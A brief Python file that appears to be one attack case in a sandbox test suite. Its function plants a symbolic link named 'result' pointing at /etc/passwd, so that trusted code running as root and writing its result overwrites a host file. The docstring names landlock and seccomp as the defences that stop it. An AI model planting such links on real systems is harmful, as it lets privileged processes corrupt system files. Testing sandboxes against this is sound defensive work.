"""Leave a symbolic link where trusted code looks for a result.

Judges have written, as root, through such links: to any file of the host.

Stopped by: landlock, seccomp
"""

import os


def attack(facts):
    os.symlink("/etc/passwd", facts["folder"] + "/result")
